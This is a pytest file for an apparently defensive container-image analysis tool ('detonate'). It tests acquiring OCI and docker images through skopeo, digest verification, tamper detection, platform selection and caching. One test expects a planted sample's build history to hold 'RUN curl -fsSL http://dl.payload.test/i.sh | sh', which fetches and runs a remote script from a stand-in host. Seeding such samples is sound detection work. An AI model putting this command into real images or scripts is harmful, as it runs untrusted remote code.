"""acquire() from archives and layouts on disk, with the real skopeo."""

from __future__ import annotations

import json
import shutil
from pathlib import Path
from typing import Any

import pytest

from detonate.acquire import SkopeoSource, acquire
from detonate.errors import (
    DigestMismatch,
    ImageNotFound,
    RegistryUnreachable,
    UnsupportedMediaType,
    UnsupportedPlatform,
)
from detonate.factory import (
    BlobLayer,
    BuiltSample,
    ImageSpec,
    load_recipe,
    write_docker_archive,
    write_oci_layout,
)
from detonate.model.image import AcquiredImage, Platform
from detonate.model.options import AcquireOptions
from detonate.progress import NullProgress

SAMPLES = Path(__file__).resolve().parents[2] / "samples"
ARM64 = Platform("linux", "arm64", "v8")
AMD64 = Platform()


def _acquire(ref: str, cache: Path, platform: Platform = AMD64) -> tuple[AcquiredImage, int]:
    options = AcquireOptions(platform=platform)
    source = SkopeoSource(options)
    image = acquire(ref, cache, options, NullProgress(), source=source)
    return image, source.copies


def _assert_complete(image: AcquiredImage) -> None:
    assert image.digest.startswith("sha256:")
    assert image.blob_path(image.config_digest).is_file()
    assert len(image.layers) == len(image.config.diff_ids) == 2
    for layer in image.layers:
        assert image.blob_path(layer.digest).stat().st_size == layer.size
        assert layer.media_type.endswith("tar+gzip")


def test_oci_archive_end_to_end(
    built_samples: dict[str, BuiltSample], tmp_path: Path, progress: Any
) -> None:
    sample = built_samples["planted-static"]
    options = AcquireOptions()
    image = acquire(sample.archive_reference, tmp_path, options, progress)
    _assert_complete(image)
    assert image.digest == sample.digest  # OCI in, OCI cached: the digest is kept
    assert image.reference == sample.archive_reference
    assert image.platform == Platform("linux", "amd64")
    assert image.config.entrypoint == ("/bin/sh", "-c")
    history = [entry.created_by for entry in image.config.history]
    assert "RUN curl -fsSL http://dl.payload.test/i.sh | sh" in history
    assert progress.calls[0][:2] == ("start", "pull") and progress.calls[-1][:2] == (
        "finish",
        "pull",
    )
    assert progress.count("advance") >= 3  # two layers and a config


def test_oci_layout_end_to_end(built_samples: dict[str, BuiltSample], tmp_path: Path) -> None:
    sample = built_samples["benign-web"]
    image, copies = _acquire(sample.oci_reference, tmp_path)
    _assert_complete(image)
    assert copies == 1
    assert image.digest == sample.digest
    assert image.config.user == "33:33"
    assert image.config.exposed_ports == ("8080/tcp",)
    assert image.config.healthcheck[0] == "CMD"


def test_docker_archive_keeps_docker_only_config_fields(tmp_path: Path) -> None:
    spec = load_recipe(SAMPLES / "benign-web")
    image_id = write_docker_archive(spec, tmp_path / "bw.tar")
    image, _ = _acquire(f"docker-archive:{tmp_path / 'bw.tar'}", tmp_path / "cache")
    _assert_complete(image)
    assert image.config_digest == image_id  # the original config, not skopeo's OCI rewrite
    assert image.config.healthcheck == spec.healthcheck.test  # type: ignore[union-attr]


def test_second_acquire_copies_nothing(
    built_samples: dict[str, BuiltSample], tmp_path: Path
) -> None:
    ref = built_samples["planted-static"].archive_reference
    first, copies = _acquire(ref, tmp_path)
    assert copies == 1
    blobs = sorted(tmp_path.glob("oci/blobs/sha256/*"))
    mtimes = [blob.stat().st_mtime_ns for blob in blobs]
    second, copies = _acquire(ref, tmp_path)
    assert copies == 0
    assert second == first
    assert [blob.stat().st_mtime_ns for blob in blobs] == mtimes
    assert sorted(tmp_path.glob("oci/blobs/sha256/*")) == blobs


def test_images_share_base_layer_blobs(
    built_samples: dict[str, BuiltSample], tmp_path: Path
) -> None:
    planted, _ = _acquire(built_samples["planted-static"].archive_reference, tmp_path)
    benign, _ = _acquire(built_samples["benign-web"].oci_reference, tmp_path)
    assert planted.layers[0] == benign.layers[0]  # the busybox base, stored once
    index = json.loads((tmp_path / "oci/index.json").read_text())
    assert len(index["manifests"]) == 2


def test_platform_is_chosen_from_an_index(tmp_path: Path) -> None:
    spec = load_recipe(SAMPLES / "benign-web")
    write_oci_layout(spec, tmp_path / "multi.oci", ("linux/amd64", "linux/arm64/v8"))
    ref = f"oci:{tmp_path / 'multi.oci'}:latest"
    arm, _ = _acquire(ref, tmp_path / "cache", ARM64)
    amd, _ = _acquire(ref, tmp_path / "cache")
    assert arm.platform == ARM64
    assert amd.platform == Platform("linux", "amd64")
    assert arm.digest != amd.digest
    assert arm.layers == amd.layers


def test_missing_platform_lists_the_available_ones(tmp_path: Path) -> None:
    spec = load_recipe(SAMPLES / "benign-web")
    write_oci_layout(spec, tmp_path / "multi.oci", ("linux/amd64", "linux/arm64/v8"))
    with pytest.raises(UnsupportedPlatform) as error:
        _acquire(f"oci:{tmp_path / 'multi.oci'}:latest", tmp_path / "c", Platform("linux", "s390x"))
    assert "linux/amd64" in error.value.message and "linux/arm64/v8" in error.value.message
    assert "--platform" in error.value.hint


def test_single_platform_image_of_another_platform_is_refused(
    built_samples: dict[str, BuiltSample], tmp_path: Path
) -> None:
    with pytest.raises(UnsupportedPlatform, match="linux/amd64"):
        _acquire(built_samples["benign-web"].oci_reference, tmp_path, ARM64)


def test_tampered_layout_blob_is_a_digest_mismatch(
    built_samples: dict[str, BuiltSample], tmp_path: Path
) -> None:
    layout = tmp_path / "bw.oci"
    shutil.copytree(built_samples["benign-web"].layout, layout)
    manifest = json.loads(
        (layout / "blobs/sha256" / built_samples["benign-web"].digest[7:]).read_text()
    )
    blob = layout / "blobs/sha256" / manifest["layers"][1]["digest"][7:]
    data = bytearray(blob.read_bytes())
    data[len(data) // 2] ^= 0xFF  # same size, other bytes
    blob.write_bytes(bytes(data))
    with pytest.raises(DigestMismatch) as error:
        _acquire(f"oci:{layout}:latest", tmp_path / "cache")
    assert error.value.hint


def test_tampered_cache_is_a_digest_mismatch(
    built_samples: dict[str, BuiltSample], tmp_path: Path
) -> None:
    image, _ = _acquire(built_samples["benign-web"].oci_reference, tmp_path)
    config = image.blob_path(image.config_digest)
    config.write_bytes(config.read_bytes().replace(b"33:33", b"00:00"))
    with pytest.raises(DigestMismatch, match="config"):
        _acquire(built_samples["benign-web"].oci_reference, tmp_path)


def test_an_oci_artifact_is_an_unsupported_media_type(tmp_path: Path) -> None:
    spec = load_recipe(SAMPLES / "benign-web")
    chart = ImageSpec(
        "chart", layers=spec.layers, config_media_type="application/vnd.cncf.helm.config.v1+json"
    )
    write_oci_layout(chart, tmp_path / "chart.oci")
    with pytest.raises(UnsupportedMediaType, match="helm"):
        _acquire(f"oci:{tmp_path / 'chart.oci'}:latest", tmp_path / "cache")


def test_a_zstd_layer_is_an_unsupported_media_type(tmp_path: Path) -> None:
    zstd = BlobLayer(
        b"\x28\xb5\x2f\xfd" + b"\0" * 32,  # zstd magic; never decompressed here
        media_type="application/vnd.oci.image.layer.v1.tar+zstd",
        diff_id="sha256:" + "0" * 64,
    )
    write_oci_layout(ImageSpec("z", layers=(zstd,)), tmp_path / "z.oci")
    with pytest.raises(UnsupportedMediaType, match="zstd"):
        _acquire(f"oci:{tmp_path / 'z.oci'}:latest", tmp_path / "cache")


@pytest.mark.parametrize(
    "ref",
    ["oci-archive:{tmp}/missing.tar", "docker-archive:{tmp}/missing.tar", "oci:{tmp}/none:x"],
)
def test_missing_local_images_are_not_found(ref: str, tmp_path: Path) -> None:
    with pytest.raises(ImageNotFound) as error:
        _acquire(ref.format(tmp=tmp_path), tmp_path / "cache")
    assert "missing" in error.value.message or "none" in error.value.message


def test_unknown_tag_in_a_layout_is_not_found(
    built_samples: dict[str, BuiltSample], tmp_path: Path
) -> None:
    with pytest.raises(ImageNotFound, match="nope"):
        _acquire(f"oci:{built_samples['benign-web'].layout}:nope", tmp_path)


def test_docker_daemon_without_a_daemon_says_what_to_do(tmp_path: Path) -> None:
    with pytest.raises(RegistryUnreachable) as error:
        _acquire("docker-daemon:app:1", tmp_path)
    assert "docker save" in error.value.hint
